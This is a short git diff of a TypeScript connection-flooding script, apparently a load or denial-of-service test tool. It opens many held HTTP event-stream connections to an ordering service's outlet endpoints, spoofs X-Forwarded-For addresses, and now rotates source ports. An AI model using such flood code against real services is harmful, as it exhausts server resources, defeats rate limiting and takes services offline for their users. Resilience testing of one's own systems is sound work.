@@ -1,6 +1,14 @@
 import { connect } from 'node:net';
 import { setTimeout as wait } from 'node:timers/promises';
-import { anyNetwork, flood, poolOf, THEIR_ADDRESS, type Attack, type Target } from './flood.ts';
+import {
+  anyNetwork,
+  flood,
+  poolOf,
+  THEIR_ADDRESS,
+  theirNextPort,
+  type Attack,
+  type Target,
+} from './flood.ts';
 
 /** The pages of an outlet that need no order and no code. */
 const PAGES = ['', '/pay', '/orders/none', '/screen'];
@@ -51,8 +59,7 @@ async function streams({ target, ms, count, heldMs, network }: Streams): Promise
       const outlet = target.outlets[n % target.outlets.length];
       const path = `/api/customers/outlets/${outlet}/${n % 2 ? 'events' : 'pick-up/events'}`;
       const from = network ? `X-Forwarded-For: ${network()}\r\n` : '';
-      const localAddress = network ? '127.0.0.1' : THEIR_ADDRESS;
-      const socket = connect({ port: Number(port), host: hostname, localAddress });
+      const socket = connect({ port: Number(port), host: hostname, ...(!network && theirNextPort()) });
       socket.on('error', () => undefined);
       socket.pause();
       socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n${from}\r\n`);
